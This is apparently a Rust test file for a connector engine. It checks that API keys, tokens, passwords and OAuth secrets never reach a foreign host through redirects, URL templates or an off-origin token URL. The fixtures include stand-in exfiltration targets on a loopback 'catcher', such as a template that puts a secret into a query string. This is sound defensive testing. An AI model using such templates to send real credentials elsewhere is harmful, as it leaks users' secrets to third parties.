//! Secrets stay at the instance's origin (issue 13), against real listeners on
//! loopback: the sample platform on 127.0.0.1 answers a redirect to a catcher on
//! 127.0.0.2 (another host), and templates point at it directly. For every auth
//! scheme, the catcher must receive nothing, so no credential in any encoding;
//! the error says where the platform redirects. Same-origin redirects are
//! followed; an origin the connector declares in `allowedOrigins` is sent to.

use std::net::{IpAddr, Ipv4Addr};

use base64::Engine as _;
use pb_connector::diagnose::{test_connection, StageName, StageStatus};
use pb_connector::{CallContext, Engine, Operation};
use pb_sample_platform::catcher::Catcher;
use pb_sample_platform::{AuthConfig, Fault, FaultKind, SamplePlatform};
use pb_secrets::Sensitive;
use serde_json::json;

const OTHER_HOST: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2));

/// `(name, auth YAML, secret value)`: every scheme that carries a credential.
fn schemes() -> Vec<(&'static str, &'static str, &'static str)> {
    vec![
        ("api key header", "{type: api_key, header: X-API-Key, secret: s}", "demo-api-key"),
        ("api key query", "{type: api_key, query: api_key, secret: s}", "demo-api-key"),
        ("bearer", "{type: bearer, secret: s}", "demo-bearer-token"),
        ("basic", "{type: basic, username: demo, secret: s}", "demo-password"),
        (
            "oauth2",
            "{type: oauth2_client_credentials, tokenUrl: /oauth/token, clientId: demo-client, secret: s}",
            "demo-client-secret",
        ),
    ]
}

fn connector(auth: &str, path: &str, extra: &str) -> pb_connector::definition::Connector {
    let text = format!(
        "apiVersion: platformbuilder.dev/connector/v1
kind: http
auth: {auth}
{extra}
operations:
  check:
    requests:
      - {{method: GET, path: '{path}', extract: {{identity: /name}}}}
"
    );
    pb_connector::parse(&text)
        .unwrap_or_else(|e| panic!("{e}\n{text}"))
        .connector
}

fn ctx(p: &SamplePlatform, secret: &str) -> CallContext {
    CallContext {
        base_url: p.base_url(),
        secrets: [("s".to_string(), Sensitive::new(secret.to_string()))].into(),
        ..Default::default()
    }
}

/// The secret in every form it could travel in.
fn encodings(secret: &str) -> Vec<String> {
    let b64 = base64::engine::general_purpose::STANDARD;
    vec![
        secret.to_owned(),
        url::form_urlencoded::byte_serialize(secret.as_bytes()).collect(),
        b64.encode(secret),
        b64.encode(format!("demo:{secret}")),
    ]
}

async fn platform() -> SamplePlatform {
    SamplePlatform::start(AuthConfig::demo(), 0).await.unwrap()
}

#[tokio::test]
async fn a_redirect_to_another_host_is_reported_and_carries_no_credential() {
    let catcher = Catcher::start(OTHER_HOST).await.unwrap();
    let p = platform().await;
    let target = format!("{}/steal", catcher.base_url());
    let engine = Engine::new();
    for (name, auth, secret) in schemes() {
        p.set_faults(vec![Fault {
            path_prefix: "/api/whoami".into(),
            method: None,
            kind: FaultKind::Redirect {
                status: 302,
                location: target.clone(),
            },
            times: None,
            after: None,
        }])
        .await;
        let c = connector(auth, "/api/whoami", "");
        let run = engine
            .run_connector(&c, Operation::Check, &ctx(&p, secret))
            .await;
        let err = run.outcome.unwrap_err();
        assert_eq!(err.code(), "redirected", "{name}: {err}");
        assert!(err.to_string().contains(&target), "{name}: {err}");

        // The connection test says the same, in its probe stage.
        let t = test_connection(&engine, c.as_http().unwrap(), &ctx(&p, secret)).await;
        let probe = t
            .stages
            .iter()
            .find(|s| s.name == StageName::Probe)
            .unwrap();
        assert_eq!(probe.status, StageStatus::Failed, "{name}");
        assert_eq!(probe.code.as_deref(), Some("redirected"), "{name}");
        assert!(probe.message.contains(&target), "{}", probe.message);
    }
    assert!(
        catcher.received().is_empty(),
        "the other host received: {:?}",
        catcher.received()
    );
}

#[tokio::test]
async fn templates_that_resolve_to_another_origin_are_refused_before_sending() {
    let catcher = Catcher::start(OTHER_HOST).await.unwrap();
    let p = platform().await;
    let engine = Engine::new();
    let elsewhere = format!("{}/collect?k={{{{ secrets.s }}}}", catcher.base_url());
    for (name, auth, secret) in schemes() {
        let c = connector(auth, &elsewhere, "");
        let run = engine
            .run_connector(&c, Operation::Check, &ctx(&p, secret))
            .await;
        let err = run.outcome.unwrap_err();
        assert_eq!(err.code(), "secret_to_foreign_origin", "{name}: {err}");
        assert!(err.to_string().contains("allowedOrigins"), "{err}");
        for e in encodings(secret) {
            assert!(
                !err.to_string().contains(&e),
                "{name}: the error shows the secret"
            );
        }
    }
    // A token URL on another host would hand it the client secret.
    let stolen = format!(
        "{{type: oauth2_client_credentials, tokenUrl: '{}/token', clientId: demo-client, secret: s}}",
        catcher.base_url()
    );
    let run = engine
        .run_connector(
            &connector(&stolen, "/api/whoami", ""),
            Operation::Check,
            &ctx(&p, "demo-client-secret"),
        )
        .await;
    assert_eq!(run.outcome.unwrap_err().code(), "secret_to_foreign_origin");
    assert!(catcher.received().is_empty(), "{:?}", catcher.received());
}

#[tokio::test]
async fn an_origin_the_connector_declares_is_sent_to_and_same_origin_redirects_are_followed() {
    let catcher = Catcher::start(OTHER_HOST).await.unwrap();
    let p = platform().await;
    let engine = Engine::new();
    let declared = format!("allowedOrigins: ['{}']", catcher.base_url());
    let c = connector(
        "{type: bearer, secret: s}",
        &format!("{}/whoami", catcher.base_url()),
        &declared,
    );
    let run = engine
        .run_connector(&c, Operation::Check, &ctx(&p, "demo-bearer-token"))
        .await;
    // The catcher answers `{}`: the request went (the output is missing).
    assert_eq!(run.outcome.unwrap_err().code(), "extraction_failed");
    assert_eq!(catcher.received().len(), 1);

    // /api/old → /api/whoami on the same origin: followed, with the credential.
    p.set_faults(vec![Fault {
        path_prefix: "/api/old".into(),
        method: None,
        kind: FaultKind::Redirect {
            status: 301,
            location: "/api/whoami".into(),
        },
        times: None,
        after: None,
    }])
    .await;
    let c = connector("{type: bearer, secret: s}", "/api/old", "");
    let run = engine
        .run_connector(&c, Operation::Check, &ctx(&p, "demo-bearer-token"))
        .await;
    let outputs = run.outcome.unwrap();
    assert_eq!(outputs["identity"], json!("bearer-client"));
}

#[test]
fn allowed_origins_must_be_origins() {
    let text = "apiVersion: platformbuilder.dev/connector/v1
kind: http
allowedOrigins: ['https://login.example.com/oauth']
operations:
  check:
    requests: [{method: GET, path: /}]
";
    let err = pb_connector::parse(text).unwrap_err();
    assert!(err.contains("allowedOrigins"), "{err}");
    assert!(err.contains("without a path"), "{err}");
}
